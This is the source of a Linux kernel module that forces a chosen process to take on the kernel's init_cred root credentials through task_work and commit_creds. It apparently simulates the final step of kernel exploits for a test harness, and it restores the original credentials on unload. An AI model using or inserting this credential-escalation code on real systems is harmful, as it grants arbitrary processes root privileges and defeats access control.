// SPDX-License-Identifier: Apache-2.0
/*
 * commit_creds(&init_cred), run by process pid= itself when it next leaves the kernel: the last
 * step of most exploits of kernel faults. The kernel's own function does it, so nothing is
 * inconsistent.
 */
#include <linux/completion.h>
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/task_work.h>

#include "attack.h"

static int pid;
module_param(pid, int, 0444);

static struct task_struct *victim;
static const struct cred *before, *wanted;
static struct callback_head work;
static DECLARE_COMPLETION(done);

static void change(struct callback_head *unused)
{
    if (before == NULL)
        before = get_current_cred();
    commit_creds((struct cred *)wanted);
    complete(&done);
}

static int have_it_run(const struct cred *cred)
{
    int err;

    wanted = cred;
    reinit_completion(&done);
    init_task_work(&work, change);
    err = task_work_add(victim, &work, TWA_SIGNAL);
    if (err == 0)
        wait_for_completion(&done);
    return err;
}

static int __init mount(void)
{
    struct pid *number = find_get_pid(pid);
    const struct cred *root = (void *)lookup("init_cred");

    victim = get_pid_task(number, PIDTYPE_PID);
    put_pid(number);
    if (victim == NULL || root == NULL)
        return -ENOENT;
    return have_it_run(get_cred(root));
}

static void __exit undo(void)
{
    have_it_run(before);
    put_task_struct(victim);
}

module_init(mount);
module_exit(undo);
MODULE_DESCRIPTION("credentials of the kernel for a process");
MODULE_LICENSE("GPL");
